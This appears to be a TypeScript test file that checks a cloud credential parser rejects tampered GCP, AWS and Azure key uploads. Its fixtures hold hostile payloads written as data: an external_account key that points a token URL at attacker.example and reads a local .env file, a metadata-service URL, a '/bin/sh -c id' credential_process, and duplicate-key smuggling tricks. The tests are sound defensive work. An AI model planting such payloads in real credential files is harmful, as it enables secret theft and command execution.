import { readFile, stat } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { parseCredentials } from '../../src/cloud/credentials.js';
import { prepareCredentials } from '../../src/terraform/child-credentials.js';
import { sessionSchema } from '../../src/vault/session.js';
import { GCP_KEY } from '../support/credentials.js';
import { tempDir } from '../support/temp-dir.js';

/** The review's payload: a normal-looking key whose extra keys make Google's auth library read a local file. */
const EXTERNAL_ACCOUNT = {
  Type: 'external_account',
  audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x',
  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
  token_url: 'https://attacker.example/sts',
  credential_source: { file: '../../../.env' },
};
const GCP_TEXT = JSON.stringify(GCP_KEY);
/** `{ ...GCP_KEY, <extra> }` as raw text, so keys may repeat (JSON.parse would keep only the last). */
const withRawMembers = (members: string) => `${GCP_TEXT.slice(0, -1)},${members}}`;
const GUID = '0b1f6471-1bf0-4dda-aec3-cb9272f09590';

describe('parseCredentials refuses anything but a plain key of a supported type', () => {
  it.each([
    ['the review payload (extra keys, one differing only in case)', JSON.stringify({ ...GCP_KEY, ...EXTERNAL_ACCOUNT }), /`Type`/],
    ['the payload with a lowercase type', JSON.stringify({ ...GCP_KEY, ...EXTERNAL_ACCOUNT, Type: undefined, type: 'external_account' }), /`type` must be "service_account"/],
    ['a case twin of `type` alone', withRawMembers('"TYPE":"external_account"'), /`TYPE`.*letter case/],
    ['a duplicate `type` (last one wins in JSON.parse)', `{"type":"external_account",${GCP_TEXT.slice(1)}`, /`type` appears more than once/],
    ['a duplicate `private_key`', withRawMembers('"private_key":"-----BEGIN PRIVATE KEY-----\\nX\\n-----END PRIVATE KEY-----\\n"'), /`private_key` appears more than once/],
    ['a case twin inside a nested object', withRawMembers('"credential_source":{"file":"a","File":"../../.env"}'), /`File`/],
    ['an unknown key', withRawMembers('"credential_source":{"url":"http://169.254.169.254/"}'), /unknown field `credential_source`/],
    ['only unknown keys besides the type', JSON.stringify({ type: 'external_account', ...EXTERNAL_ACCOUNT, Type: undefined }), /`type` must be "service_account"/],
    ['an authorized_user key', JSON.stringify({ ...GCP_KEY, type: 'authorized_user' }), /`type` must be "service_account"/],
    ['a token URI that is not Google', JSON.stringify({ ...GCP_KEY, token_uri: 'http://169.254.169.254/token' }), /`token_uri`/],
    ['another universe', JSON.stringify({ ...GCP_KEY, universe_domain: 'attacker.example' }), /`universe_domain`/],
    ['a key that is an array', JSON.stringify([GCP_KEY]), /not usable/],
  ])('GCP: %s', (_label, text, message) => {
    const result = parseCredentials('gcp', text);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error).toMatch(message);
      expect(result.error).not.toMatch(/TOP-SECRET|attacker|\.env/);
    }
  });

  it.each([
    ['an unknown key', JSON.stringify({ AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', SecretAccessKey: 'TOP-SECRET', credential_process: '/bin/sh -c id' }), /unknown field `credential_process`/],
    ['a case twin', '{"AccessKeyId":"AKIAIOSFODNN7EXAMPLE","SecretAccessKey":"TOP-SECRET","secretaccesskey":"other"}', /`secretaccesskey`.*letter case/],
    ['a duplicate', '{"AccessKeyId":"AKIAIOSFODNN7EXAMPLE","AccessKeyId":"AKIAIOSFODNN7EXAMPLF","SecretAccessKey":"TOP-SECRET"}', /`AccessKeyId` appears more than once/],
    ['an unknown key beside the AccessKey wrapper', JSON.stringify({ AccessKey: { AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', SecretAccessKey: 'TOP-SECRET' }, role_arn: 'arn:aws:iam::1:role/x' }), /unknown field `role_arn`/],
    ['a secret with a line break', JSON.stringify({ AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', SecretAccessKey: 'TOP\nSECRET' }), /`SecretAccessKey`/],
  ])('AWS: %s', (_label, text, message) => {
    const result = parseCredentials('aws', text);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.error).toMatch(message);
      expect(result.error).not.toContain('TOP-SECRET');
    }
  });

  it.each([
    ['an unknown key', JSON.stringify({ appId: GUID, password: 'TOP-SECRET', tenant: GUID, use_msi: true }), /unknown field `use_msi`/],
    ['a case twin', `{"appId":"${GUID}","password":"TOP-SECRET","tenant":"${GUID}","Tenant":"${GUID}"}`, /`Tenant`.*letter case/],
  ])('Azure: %s', (_label, text, message) => {
    const result = parseCredentials('azure', text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error).toMatch(message);
  });

  it('names a long or odd key without echoing all of it', () => {
    const result = parseCredentials('gcp', withRawMembers(`"${'x'.repeat(5000)}\`":1`));
    expect(!result.ok && result.error.length).toBeLessThan(300);
  });

  it('accepts the files the clouds write, with their informational fields', () => {
    const gcloud = { ...GCP_KEY, auth_uri: 'https://accounts.google.com/o/oauth2/auth', auth_provider_x509_cert_url: 'https://www.googleapis.com/oauth2/v1/certs', client_x509_cert_url: 'https://www.googleapis.com/robot/v1/metadata/x509/deployer', universe_domain: 'googleapis.com' };
    expect(parseCredentials('gcp', JSON.stringify(gcloud)).ok).toBe(true);
    const aws = { AccessKey: { UserName: 'deployer', AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', Status: 'Active', SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', CreateDate: '2026-01-01T00:00:00Z' } };
    expect(parseCredentials('aws', JSON.stringify(aws))).toMatchObject({ ok: true, value: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE' } });
    const azure = { appId: GUID, displayName: 'chatops', password: 'p4ss~word', tenant: GUID };
    expect(parseCredentials('azure', JSON.stringify(azure))).toMatchObject({ ok: true, value: { clientId: GUID } });
  });
});

describe('the key file Terraform reads', () => {
  it('holds only the canonical service-account fields, whatever the upload carried', async () => {
    const upload = { ...GCP_KEY, auth_uri: 'https://accounts.google.com/o/oauth2/auth', universe_domain: 'googleapis.com' };
    const parsed = parseCredentials('gcp', JSON.stringify(upload, null, 2));
    if (!parsed.ok) throw new Error(parsed.error);
    const child = await prepareCredentials(parsed.value, tempDir('cred-test-'));
    try {
      const file = child.env.GOOGLE_APPLICATION_CREDENTIALS!;
      expect((await stat(file)).mode & 0o777).toBe(0o600);
      expect(JSON.parse(await readFile(file, 'utf8'))).toStrictEqual({
        type: 'service_account', project_id: GCP_KEY.project_id, private_key_id: GCP_KEY.private_key_id, private_key: GCP_KEY.private_key,
        client_email: GCP_KEY.client_email, client_id: GCP_KEY.client_id, token_uri: 'https://oauth2.googleapis.com/token',
      });
    } finally {
      await child.cleanup();
    }
  });

  it('cannot be smuggled in through a recovery blob either', () => {
    const session = {
      id: 'A'.repeat(22), userId: '1', guildId: '2', provider: 'gcp', projectName: 'p', projectId: 'payments-prod-42', region: 'us-central1',
      createdAt: 0, expiresAt: 1,
    };
    const smuggled = { provider: 'gcp', serviceAccountJson: JSON.stringify({ ...GCP_KEY, ...EXTERNAL_ACCOUNT }), clientEmail: GCP_KEY.client_email };
    expect(sessionSchema.safeParse({ ...session, credentials: smuggled }).success).toBe(false);
    const parsed = parseCredentials('gcp', GCP_TEXT);
    expect(parsed.ok && sessionSchema.safeParse({ ...session, credentials: parsed.value }).success).toBe(true);
  });
});
